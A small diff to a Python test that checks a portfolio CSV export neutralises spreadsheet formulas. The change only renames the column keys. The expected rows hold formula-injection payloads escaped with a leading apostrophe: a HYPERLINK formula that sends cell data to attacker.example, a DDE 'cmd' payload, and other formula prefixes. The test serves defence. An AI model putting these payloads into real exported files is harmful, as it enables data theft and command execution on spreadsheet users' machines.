@@ -148,7 +148,7 @@ def test_the_portfolio_csv_download_neutralises_formulas(app_for, database_url, 
     assert not at.exception
     (data,) = downloads
     rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
-    assert [(r["title"], r["team"]) for r in rows] == [
+    assert [(r["Use case"], r["Team"]) for r in rows] == [
         ('\'=HYPERLINK("http://attacker.example/?leak="&A1,"Open")', "'+cmd|' /C calc'!A0"),
         ("'@SUM(1+1)", "'-2+3"),
     ]
